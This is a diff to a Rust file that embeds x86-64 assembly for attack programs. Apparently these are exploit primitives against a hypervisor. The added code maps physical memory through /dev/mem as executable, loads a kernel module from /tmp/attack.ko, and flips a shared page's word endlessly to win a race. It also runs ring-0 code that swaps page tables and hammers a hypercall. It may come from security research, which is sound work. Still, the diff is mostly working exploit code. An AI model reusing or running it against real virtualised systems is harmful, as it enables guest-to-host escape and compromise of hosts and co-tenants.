@@ -25,11 +25,10 @@ global_asm!(
     ".popsection",
 );
 
-// Maps one page of physical memory at MAPPED, loads the module /tmp/attack.ko, and writes what the kernel answers, eight
-// bytes, to standard output. The module's code finds the page mapped.
+// Maps one page of physical memory at MAPPED, for the code behind it, and leaves the address in RDI.
 global_asm!(
-    ".pushsection .rodata.attack_loader, \"a\"",
-    "attack_loader:",
+    ".pushsection .rodata.attack_mapping, \"a\"",
+    "attack_mapping:",
     ".quad 0", //                              address of the page
     "   lea rdi, [rip + 2f]",
     "   mov esi, 0x101002", //                 O_RDWR, O_SYNC
@@ -40,11 +39,27 @@ global_asm!(
     "   mov esi, 4096",
     "   mov edx, 7", //                        readable, writable, executable
     "   mov r10d, 0x11", //                    shared, fixed
-    "   mov r9, [rip + attack_loader]",
+    "   mov r9, [rip + attack_mapping]",
     "   mov eax, 9", //                        mmap
     "   syscall",
     "   cmp rax, rdi",
-    "   jne 5f",
+    "   je 3f",
+    "   mov edi, eax",
+    "   neg edi",
+    "   mov eax, 60", //                       exit, with the error's number
+    "   syscall",
+    "2: .asciz \"/dev/mem\"",
+    "3:",
+    "attack_mapping_end:",
+    ".popsection",
+    mapped = const MAPPED,
+);
+
+// Behind a mapping: loads the module /tmp/attack.ko, and writes what the kernel answers, eight bytes, to standard output.
+// The module's code finds the page mapped.
+global_asm!(
+    ".pushsection .rodata.attack_loader, \"a\"",
+    "attack_loader:",
     "   lea rdi, [rip + 3f]",
     "   xor esi, esi",
     "   mov eax, 2",
@@ -54,7 +69,7 @@ global_asm!(
     "   xor edx, edx",
     "   mov eax, 313", //                      finit_module
     "   syscall",
-    "5: push rax",
+    "   push rax",
     "   mov eax, 1",
     "   mov edi, 1",
     "   mov rsi, rsp",
@@ -63,12 +78,31 @@ global_asm!(
     "   mov eax, 60",
     "   xor edi, edi",
     "   syscall",
-    "2: .asciz \"/dev/mem\"",
     "3: .asciz \"/tmp/attack.ko\"",
     "4: .byte 0",
     "attack_loader_end:",
     ".popsection",
-    mapped = const MAPPED,
+);
+
+// Behind a mapping: gives the page's first word one of two values after the other, without end.
+global_asm!(
+    ".pushsection .rodata.attack_swap, \"a\"",
+    "attack_swap:",
+    "   jmp 2f",
+    "   .org attack_swap + 8",
+    "   .quad 0, 0", //                        the values
+    "2: mov rax, [rip + attack_swap + 8]",
+    "   mov rbx, [rip + attack_swap + 16]",
+    "3: mov [rdi], rax",
+    "   mov ecx, {pauses}",
+    "4: pause",
+    "   dec ecx",
+    "   jnz 4b",
+    "   xchg rax, rbx",
+    "   jmp 3b",
+    "attack_swap_end:",
+    ".popsection",
+    pauses = const 20,
 );
 
 // The module's init function. It runs the instructions in its slot with an interrupt table of its own, on the stack,
@@ -171,7 +205,39 @@ global_asm!(
     "   .balign 8, 0xcc",
     "attack_a20_end:",
     ".popsection",
-    seen = const A20_SEEN,
+    seen = const SEEN,
+);
+
+// At CPL 0, called from the slot at its physical address, with interrupts off: makes a hypercall with three results at
+// RACED many times, through own page tables. A bit for each status that came of it is left behind.
+global_asm!(
+    ".pushsection .rodata.attack_race, \"a\"",
+    "attack_race:",
+    "   jmp 2f",
+    "   .org attack_race + 8",
+    "   .quad 0, 0, 0, 0", //                  CR3; where the hypercall is, and a JMP RBX; its number; how many
+    "2: mov r13, cr3",
+    "   mov rax, [rip + attack_race + 8]",
+    "   mov cr3, rax",
+    "   xor r14d, r14d",
+    "3: mov ecx, 7",
+    "   mov edx, {raced}",
+    "   mov r8d, {raced} + 8",
+    "   mov r9d, {raced} + 16",
+    "   mov eax, [rip + attack_race + 24]",
+    "   lea rbx, [rip + 4f]",
+    "   jmp [rip + attack_race + 16]",
+    "4: bts r14, rax",
+    "   dec qword ptr [rip + attack_race + 32]",
+    "   jnz 3b",
+    "   mov [rip + attack_race + {seen}], r14",
+    "   mov cr3, r13",
+    "   ret",
+    "   .balign 8, 0xcc",
+    "attack_race_end:",
+    ".popsection",
+    raced = const RACED,
+    seen = const SEEN,
 );
 
 // A slot: calls the page at MAPPED, which is a user page.
@@ -194,8 +260,14 @@ global_asm!(
 unsafe extern "C" {
     safe static attack_signature: u8;
     safe static attack_signature_end: u8;
+    safe static attack_mapping: u8;
+    safe static attack_mapping_end: u8;
     safe static attack_loader: u8;
     safe static attack_loader_end: u8;
+    safe static attack_swap: u8;
+    safe static attack_swap_end: u8;
+    safe static attack_race: u8;
+    safe static attack_race_end: u8;
     safe static attack_module: u8;
     safe static attack_module_end: u8;
     safe static attack_a20: u8;
@@ -244,11 +316,23 @@ pub fn signature() -> Vec<u8> {
     program(&blob(&attack_signature, &attack_signature_end), 0)
 }
 
+/// A program with the physical page `page` mapped at [`MAPPED`].
+fn with_page(page: u64, code: &[u8]) -> Vec<u8> {
+    let mut mapping = blob(&attack_mapping, &attack_mapping_end);
+    put(&mut mapping, 0, &page.to_le_bytes());
+    program(&[&mapping, code].concat(), 8)
+}
+
 /// A program that loads /tmp/attack.ko with the physical page `page` mapped at [`MAPPED`].
 pub fn loader(page: u64) -> Vec<u8> {
-    let mut code = blob(&attack_loader, &attack_loader_end);
-    code[..8].copy_from_slice(&page.to_le_bytes());
-    program(&code, 8)
+    with_page(page, &blob(&attack_loader, &attack_loader_end))
+}
+
+/// A program that gives the first word of the physical page `page` each of two values in turn, until it is ended.
+pub fn swap(page: u64, values: [u64; 2]) -> Vec<u8> {
+    let mut code = blob(&attack_swap, &attack_swap_end);
+    put(&mut code, 8, values.map(u64::to_le_bytes).as_flattened());
+    with_page(page, &code)
 }
 
 /// A program that makes the hypercall `eax` at page offset `at`, and ends well if that is possible.
@@ -262,14 +346,25 @@ pub fn hypercall(eax: u32, at: usize) -> Vec<u8> {
     program(&code, mov)
 }
 
-/// Offset at which [`a20`] leaves what it read.
-pub const A20_SEEN: u64 = 0xff0;
+/// Offset at which [`a20`] and [`race`] leave what they saw.
+pub const SEEN: u64 = 0xff0;
+/// Virtual address that [`race`] wants results at: the second GiB's first page.
+pub const RACED: u32 = 0x4000_0000;
 
 /// Code for the physical address `at`, with page tables a page above it, that reads `address` with address line 20 masked.
 pub fn a20(at: u64, address: u64) -> Vec<u8> {
     let mut code = blob(&attack_a20, &attack_a20_end);
     put(&mut code, 8, &(at + 0x1000).to_le_bytes());
     put(&mut code, 16, &address.to_le_bytes());
+    code
+}
+
+/// Code for the physical address `at`, with page tables a page above it, that makes `count` calls by the hypercall
+/// `number` at `thunk`, behind which is [`JMP_RBX`].
+pub fn race(at: u64, thunk: u64, number: u32, count: u64) -> Vec<u8> {
+    let mut code = blob(&attack_race, &attack_race_end);
+    let words = [at + 0x1000, thunk, number.into(), count];
+    put(&mut code, 8, words.map(u64::to_le_bytes).as_flattened());
     code
 }
 
@@ -280,6 +375,8 @@ pub fn call_mapped() -> Vec<u8> {
 
 /// VMMCALL.
 pub const VMMCALL: [u8; 3] = [0x0f, 0x01, 0xd9];
+/// JMP RBX.
+pub const JMP_RBX: [u8; 2] = [0xff, 0xe3];
 
 /// A static program: `code` at the start of a page, entered at `entry`.
 ///
